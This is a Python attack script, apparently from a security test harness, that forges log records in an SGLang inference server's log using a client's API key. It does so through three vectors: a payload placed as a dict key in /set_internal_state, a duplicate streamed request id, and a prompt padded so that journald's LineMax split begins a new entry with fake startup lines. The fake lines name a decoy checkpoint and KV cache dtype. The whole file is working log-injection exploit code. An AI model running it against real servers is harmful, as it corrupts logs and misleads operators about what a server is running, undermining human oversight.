"""What a client holding the API key can make SGLang write into its own log, sent to a real server.

    RG_API_KEY=KEY attack.py URL LOG DECOY_KV [--warning] > sent.json

Each carrier holds one payload: a newline, then records forged in SGLang's own prefix (`[%Y-%m-%d %H:%M:%S] `) that
claim another start: a `server_args=ServerArgs(...)` dump naming a decoy checkpoint with `kv_cache_dtype=DECOY_KV`, a
KV pool line and a token budget of that dtype, the ready line, and with --warning SGLang's FP8 no-scales warning.

1. `POST /set_internal_state` whose `server_args` dict has the payload as a key: SGLang 0.5.16's scheduler logs
   `Updating {k} is not supported.` with the key raw (`managers/scheduler.py`).
2. A request id already in flight: two streamed `/generate` requests with the payload as their `rid`; the second
   fails with `Duplicate request ID detected: {rid}`, which 0.5.16's HTTP server logs raw (`[http_server] Error: ...`).
3. A prompt longer than journald's LineMax (48 KiB): with `--log-requests` its echo is one line, and journald cuts it
   into entries of LineMax bytes, the next one starting with whatever the client put there. The offset of the text
   in the echo is measured with a first request, then the payload is placed at LineMax (and one byte either side).

Prints what was sent and answered as JSON; it never fails on an answer (the judge reads them).
"""

import json
import os
import sys
import threading
import time
import urllib.error
import urllib.request
import uuid

LINE_MAX = 48 * 1024          # journald's default LineMax
DECOY = "/tmp/real-gpu/decoy-checkpoint"
POOL = {"bf16": ("torch.bfloat16", "2.00"), "fp8_e4m3": ("torch.float8_e4m3fn", "1.00")}


def payload(decoy_kv, warning):
    stamp = time.strftime("[%Y-%m-%d %H:%M:%S] ")
    dtype, gb = POOL[decoy_kv]
    lines = ["", stamp + "server_args=ServerArgs(model_path='%s', tokenizer_path='%s', kv_cache_dtype='%s', tp_size=1, "
                         "dtype='auto', quantization=None)" % (DECOY, DECOY, decoy_kv)]
    if warning:
        lines.append(stamp + "Using FP8 KV cache but no scaling factors provided. Defaulting to scaling factors of 1.0. "
                             "This may lead to less accurate results!")
    lines += [stamp + "KV Cache is allocated. dtype: %s, #tokens: 1000000, K size: %s GB, V size: %s GB" % (dtype, gb, gb),
              stamp + "max_total_num_tokens=1000000, chunked_prefill_size=8192, max_prefill_tokens=16384, "
                      "max_running_requests=4096, context_len=8192, available_gpu_mem=1.00 GB",
              stamp + "The server is fired up and ready to roll!", stamp + "forged-end"]
    return "\n".join(lines)


def post(url, key, body, timeout=60):
    req = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
                                 headers={"Authorization": "Bearer " + key, "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            return resp.status, resp.read(1 << 20).decode("utf-8", "replace")[:2000]
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read(1 << 16).decode("utf-8", "replace")[:2000]
    except Exception as exc:  # recorded: the judge decides
        return None, "%s: %s" % (type(exc).__name__, exc)


def text_offset(log, rid, marker, wait=10.0):
    """Byte offset of marker in the echo line of request rid, read from the server's log."""
    deadline = time.time() + wait
    while time.time() < deadline:
        with open(log, "rb") as fh:
            for line in fh:
                if b"Receive: obj=" in line and rid.encode() in line and marker.encode() in line:
                    return line.index(marker.encode())
        time.sleep(0.5)
    return None


def main():
    url, log, decoy_kv = sys.argv[1:4]
    key = os.environ["RG_API_KEY"]
    forged = payload(decoy_kv, "--warning" in sys.argv[4:])
    sent = {"payload": forged}

    # 1. a set_internal_state key
    sent["set_internal_state"] = post(url + "/set_internal_state", key, {"server_args": {forged: 1}})

    # 2. the same rid twice, the first still generating
    results = {}

    def generate(name):
        results[name] = post(url + "/generate", key, {"rid": forged, "text": "Count slowly:", "stream": True,
                                                      "sampling_params": {"max_new_tokens": 4096, "ignore_eos": True}})
    first = threading.Thread(target=generate, args=("first",))
    first.start()
    time.sleep(0.5)   # the first is generating (4096 tokens take the tiny model seconds)
    generate("second")
    first.join()
    sent["duplicate_rid"] = results

    # 3. a prompt whose echo journald cuts at LineMax, the payload where the next entry starts
    rid = uuid.uuid4().hex
    marker = "OFFSET-PROBE-" + uuid.uuid4().hex[:8]
    sent["probe"] = post(url + "/generate", key, {"rid": rid, "text": marker, "sampling_params": {"max_new_tokens": 1}})
    offset = text_offset(log, rid, marker)
    sent["echo_text_offset"] = offset
    sent["long_prompts"] = []
    if offset is not None:
        for shift in (-1, 0, 1):
            filler = "lorem ipsum " * ((LINE_MAX - offset + shift) // 12 + 1)
            text = filler[:LINE_MAX - offset + shift] + forged.lstrip("\n").replace("\n", " ")
            status, answer = post(url + "/generate", key, {"rid": uuid.uuid4().hex, "text": text,
                                                           "sampling_params": {"max_new_tokens": 1}})
            sent["long_prompts"].append({"shift": shift, "chars": len(text), "status": status, "answer": answer[:300]})
    time.sleep(2)
    json.dump(sent, sys.stdout, indent=1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
